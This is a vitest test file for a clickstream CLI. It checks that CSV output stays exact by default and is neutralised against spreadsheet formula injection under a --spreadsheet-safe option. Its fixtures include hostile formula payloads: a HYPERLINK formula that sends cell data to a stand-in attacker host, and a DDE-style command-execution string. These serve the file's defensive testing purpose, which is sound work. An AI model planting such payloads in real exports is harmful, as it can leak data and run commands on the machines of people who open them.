/**
 * CSV injection (issue 8, finding 11): user agents and usernames are set by anyone. By default the
 * CSVs stay exact (RFC 4180: DuckDB and pandas read back every value as it was); with
 * `--spreadsheet-safe` a text that a spreadsheet would run as a formula is written in OWASP's
 * neutralised form. index.html says which form the CSVs are in.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { literal, withDuckDB } from '../src/duckdb/session.js';
import { csvField, toCsv } from '../src/report/csv.js';

const root = mkdtempSync(join(tmpdir(), 'clickstream-csv-injection-'));
const cli = join(__dirname, '..', 'bin', 'clickstream.js');
afterAll(() => rmSync(root, { recursive: true, force: true }));

// Values a spreadsheet would run: one per formula-starting character, one with quotes and a comma.
const HOSTILE_AGENTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tTAB agent', '\rCR agent'];
const HOSTILE_USERS = ['+1+1', '-2+3', '=1+2', '@user'];

function run(args: string[]): { status: number | null; stderr: string } {
  const r = spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8' });
  return { status: r.status, stderr: r.stderr };
}

/** Reads a CSV with DuckDB (every column as text), as a data user would. */
async function readCsv(path: string): Promise<Record<string, string>[]> {
  return withDuckDB({}, async (conn) => {
    const reader = await conn.runAndReadAll(
      `SELECT * FROM read_csv(${literal(path)}, header = true, all_varchar = true, quote = '"', escape = '"', delim = ',', strict_mode = true)`,
    );
    return reader.getRowObjects() as Record<string, string>[];
  });
}

beforeAll(() => {
  const lines: string[] = [];
  HOSTILE_AGENTS.forEach((ua, i) => lines.push(JSON.stringify({ username: HOSTILE_USERS[i], user_agent: ua, language: 'en' })));
  lines.push(JSON.stringify({ username: 'plain', user_agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:22.0) Gecko/20100101 Firefox/22.0' }));
  writeFileSync(join(root, 'hostile.jsonl'), `${lines.join('\n')}\n`);
  const r = run(['convert', join(root, 'hostile.jsonl'), '--out', join(root, 'ds'), '--partitions', '2', '--quiet']);
  if (r.status !== 0) throw new Error(r.stderr);
}, 60_000);

describe('csvField', () => {
  it('is exact by default: only , " CR LF cause quoting', () => {
    expect(csvField('=1+2')).toBe('=1+2');
    expect(csvField('@x')).toBe('@x');
    expect(csvField('\tx')).toBe('\tx');
    expect(csvField('\rx')).toBe('"\rx"');
    expect(csvField(-1)).toBe('-1');
  });

  it('spreadsheet-safe: a text starting with = + - @ tab or CR gets a leading quote mark and is quoted', () => {
    for (const v of ['=1+2', '+1', '-1', '@x', '\tx', '\rx']) expect(csvField(v, true)).toBe(`"'${v}"`);
    expect(csvField('=HYPERLINK("a","b")', true)).toBe('"\'=HYPERLINK(""a"",""b"")"');
    // Anything else, and numbers, exactly as without the option.
    for (const v of ['plain', 'a,b', 'x=1', ' =1', "'=1", '', 'say "hi"']) expect(csvField(v, true)).toBe(csvField(v));
    expect(csvField(-1, true)).toBe('-1');
    expect(toCsv(['name', 'n'], [['-x', 1]], true)).toBe('name,n\r\n"\'-x",1\r\n');
  });
});

describe('analyze', () => {
  it('writes exact CSVs by default: DuckDB reads back every hostile value unchanged; the page says how to open them safely', async () => {
    const out = join(root, 'exact');
    const r = run(['analyze', join(root, 'ds'), '--out', out, '--workers', '1', '--quiet']);
    expect(r.status, r.stderr).toBe(0);
    const agents = (await readCsv(join(out, 'user-agents.csv'))).map((row) => row.user_agent);
    for (const ua of HOSTILE_AGENTS) expect(agents).toContain(ua);
    const users = (await readCsv(join(out, 'users.csv'))).map((row) => row.username);
    expect(users.sort()).toEqual([...HOSTILE_USERS, 'plain'].sort());
    const html = readFileSync(join(out, 'index.html'), 'utf8');
    expect(html).toContain('These CSV files are exact (RFC 4180)');
    expect(html).toContain('<code>--spreadsheet-safe</code>');
  });

  it('--spreadsheet-safe: no cell of any CSV starts as a formula; each hostile value is there with a leading quote mark', async () => {
    const out = join(root, 'safe');
    const r = run(['analyze', join(root, 'ds'), '--out', out, '--workers', '1', '--quiet', '--spreadsheet-safe']);
    expect(r.status, r.stderr).toBe(0);
    for (const name of ['user-agents.csv', 'users.csv', 'browsers.csv', 'os.csv', 'devices.csv', 'languages.csv', 'activity-cdf.csv']) {
      for (const row of await readCsv(join(out, name))) {
        for (const cell of Object.values(row)) expect(cell ?? '', `${name}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const agents = (await readCsv(join(out, 'user-agents.csv'))).map((row) => row.user_agent);
    for (const ua of HOSTILE_AGENTS) expect(agents).toContain(`'${ua}`);
    const users = (await readCsv(join(out, 'users.csv'))).map((row) => row.username);
    expect(users.sort()).toEqual([...HOSTILE_USERS.map((u) => `'${u}`), 'plain'].sort());
    // summary.json keeps the values exactly.
    const summary = JSON.parse(readFileSync(join(out, 'summary.json'), 'utf8'));
    expect(summary.topUsers.map((u: { username: string }) => u.username).sort()).toEqual([...HOSTILE_USERS, 'plain'].sort());
    expect(readFileSync(join(out, 'index.html'), 'utf8')).toContain('These CSV files are spreadsheet-safe');
  });
});
